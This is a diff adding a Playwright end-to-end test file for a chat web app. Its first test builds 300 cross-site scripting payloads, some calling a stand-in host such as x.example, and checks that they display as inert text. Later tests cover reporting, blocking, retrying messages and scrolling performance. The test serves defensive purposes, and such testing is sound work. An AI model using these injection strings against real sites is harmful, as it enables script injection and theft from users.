@@ -1,0 +1,174 @@
+import { expect } from '@playwright/test';
+import { messageField, messageRow, openChat, rows, sendByApi, signInToChat, write } from './conversations.ts';
+import { journey } from './journey.ts';
+import { createMember, signIn } from './people.ts';
+
+/** Ways to get a script in, in every place that might take one; all distinct. */
+function xssPayloads(count: number): string[] {
+  const calls = ['alert(1)', 'window.__xss=1', 'import("//x.example")', 'fetch("//x.example")', 'eval("1")'];
+  const wrappers: Array<(call: string, nth: number) => string> = [
+    (call, nth) => `<script>${call}//${nth}</script>`,
+    (call, nth) => `<img src=x${nth} onerror='${call}'>`,
+    (call, nth) => `"><svg/onload=${call}>${nth}`,
+    (call, nth) => `javascript:${call}//${nth}`,
+    (call, nth) => `<a href="javascript:${call}">${nth}</a>`,
+    (call, nth) => `{{constructor.constructor('${call}')()}}${nth}`,
+    (call, nth) => `<iframe srcdoc="<script>${call}</script>">${nth}`,
+    (call, nth) => `&lt;script&gt;${call}&lt;/script&gt;${nth}`,
+    (call, nth) => `\${${call}}${nth}`,
+    (call, nth) => `https://x.example/"onmouseover="${call}"${nth}`,
+    (call, nth) => `<math><mtext><style><img src=x onerror=${call}>${nth}`,
+    (call, nth) => `\u202e<b onclick=${call}>${nth}\u202c`,
+  ];
+  return Array.from({ length: count }, (_, nth) => {
+    const wrap = wrappers[nth % wrappers.length];
+    const call = calls[Math.floor(nth / wrappers.length) % calls.length];
+    if (!wrap || !call) throw new Error('no payload');
+    return wrap(call, nth);
+  });
+}
+
+journey('300 attempts to get a script in show as the text they are', async ({ page, server, faults }) => {
+  journey.slow();
+  const [ana, mallory] = [await createMember(server, 'Ana'), await createMember(server, 'Mallory')];
+  const payloads = xssPayloads(300);
+  await sendByApi(mallory, ana, payloads);
+  page.on('dialog', (dialog) => {
+    throw new Error(`a dialog opened: ${dialog.message()}`);
+  });
+  await signIn(page, ana);
+
+  const names = payloads
+    .filter((payload) => payload.length <= 60 && !/[\u202c\u202e]/.test(payload))
+    .slice(0, 12);
+  for (const name of names) {
+    await mallory.client.calls.updateUser({ name });
+    await page.goto('/chats');
+    await expect(page.getByRole('listitem').filter({ hasText: name })).toBeVisible();
+    await page.goto(`/chat/${mallory.userId}`);
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);
+  }
+
+  const seen = new Set<string>();
+  const scroller = page.getByRole('region', { name: 'Messages', exact: true });
+  await expect(async () => {
+    for (const text of await page.locator('[data-row] p[dir]').allTextContents()) seen.add(text);
+    await scroller.evaluate((element) => element.scrollBy(0, -500));
+    expect(payloads.filter((payload) => !seen.has(payload))).toEqual([]);
+  }).toPass({ intervals: [30], timeout: 120_000 });
+  const foreign = await page.evaluate(() => ({
+    marks: '__xss' in window,
+    elements: document.querySelectorAll('main :is(script, iframe, math, [onerror], [onload], [onclick])')
+      .length,
+    hrefs: [...document.querySelectorAll<HTMLAnchorElement>('[data-row] a')].filter(
+      (link) => !/^https?:$/.test(link.protocol),
+    ).length,
+  }));
+  expect(foreign).toEqual({ marks: false, elements: 0, hrefs: 0 });
+  faults.check();
+});
+
+journey(
+  'a message can be reported and its sender blocked from the conversation',
+  async ({ page, server, expectAccessible }) => {
+    const [ana, ben] = [await createMember(server, 'Ana'), await createMember(server, 'Ben')];
+    await sendByApi(ben, ana, ['send me money']);
+    await signInToChat(page, ana, ben);
+    await messageRow(page, 'send me money').hover();
+    await messageRow(page, 'send me money').getByRole('button', { name: 'Message options' }).click();
+    await page.getByRole('button', { name: 'Report message' }).click();
+    await page.getByLabel('What is wrong with it?').selectOption('scam');
+    await expectAccessible();
+    await page.getByRole('button', { name: 'Report', exact: true }).click();
+    await expect(page.getByText('Thank you. The message was reported.')).toBeVisible();
+
+    await page.getByRole('button', { name: 'More' }).click();
+    await page.getByRole('menuitem', { name: 'Block User' }).click();
+    await expect(page.getByText('Neither of you can write to the other.')).toBeVisible();
+    await expect(messageField(page)).toBeHidden();
+    await page.getByRole('button', { name: 'Unblock User' }).click();
+    await expect(messageField(page)).toBeVisible();
+  },
+);
+
+journey(
+  'a refused message stays with its reason, and can be sent again or deleted',
+  async ({ page, server }) => {
+    const [ana, ben] = [await createMember(server, 'Ana'), await createMember(server, 'Ben')];
+    await signInToChat(page, ana, ben);
+    await ben.client.calls.blockUser({ userId: ana.userId });
+    await write(page, 'can you hear me?');
+    await expect(messageRow(page, 'can you hear me?')).toContainText('One of you has blocked the other.');
+    await page.reload();
+    await expect(messageRow(page, 'can you hear me?')).toContainText('Not sent');
+    await ben.client.calls.unblockUser({ userId: ana.userId });
+    await page.getByRole('button', { name: 'Retry' }).click();
+    await expect(messageRow(page, 'can you hear me?')).toContainText('Sent');
+    await ben.client.calls.blockUser({ userId: ana.userId });
+    await write(page, 'and now?');
+    await page.getByRole('button', { name: 'Delete' }).click();
+    await expect(messageRow(page, 'and now?')).toHaveCount(0);
+  },
+);
+
+journey(
+  'a conversation of 20,000 messages keeps few rows on the page and never jumps',
+  async ({ page, server, browserName }) => {
+    journey.setTimeout(300_000);
+    expect(browserName).toBe('chromium');
+    const total = 20_000;
+    const [ana, ben] = [await createMember(server, 'Ana'), await createMember(server, 'Ben')];
+    const atOnce = 100;
+    for (let sent = 0; sent < total; sent += atOnce) {
+      const batch = Array.from({ length: atOnce }, (_, place) =>
+        ben.client.calls.sendTextMessage({
+          userId: ana.userId,
+          content: `message ${sent + place} ${'word '.repeat(place % 30)}`,
+        }),
+      );
+      await Promise.all(batch);
+    }
+    await signIn(page, ana);
+    await openChat(page, ben);
+    await expect(rows(page).last()).toContainText('message');
+
+    const scrolled = await page
+      .getByRole('region', { name: 'Messages', exact: true })
+      .evaluate(async (element) => {
+        const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
+        const topRow = () => {
+          const { top } = element.getBoundingClientRect();
+          return [...element.querySelectorAll<HTMLElement>('[data-row]')].find(
+            (row) => row.getBoundingClientRect().bottom > top + 60,
+          );
+        };
+        const found = { rowsMax: 0, jumpMax: 0, pages: 0 };
+        while (found.pages < 60) {
+          element.scrollTop = 0;
+          await frame();
+          const row = topRow();
+          const before = {
+            id: row?.dataset.row,
+            top: row?.getBoundingClientRect().top ?? 0,
+            height: element.scrollHeight,
+          };
+          while (element.scrollHeight === before.height) {
+            await frame();
+            found.rowsMax = Math.max(found.rowsMax, element.querySelectorAll('[data-row]').length);
+          }
+          await frame();
+          const after =
+            element.querySelector<HTMLElement>(`[data-row="${before.id}"]`)?.getBoundingClientRect().top ??
+            Number.NaN;
+          found.jumpMax = Math.max(found.jumpMax, Math.abs(after - before.top));
+          found.pages += 1;
+        }
+        return found;
+      });
+    expect(scrolled.rowsMax).toBeLessThan(150);
+    expect(scrolled.jumpMax).toBeLessThanOrEqual(2);
+    await page.getByRole('button', { name: 'Jump to latest' }).click();
+    await expect(rows(page).last()).toContainText(/Today|message 199\d\d/);
+    expect(await rows(page).count()).toBeLessThan(150);
+  },
+);
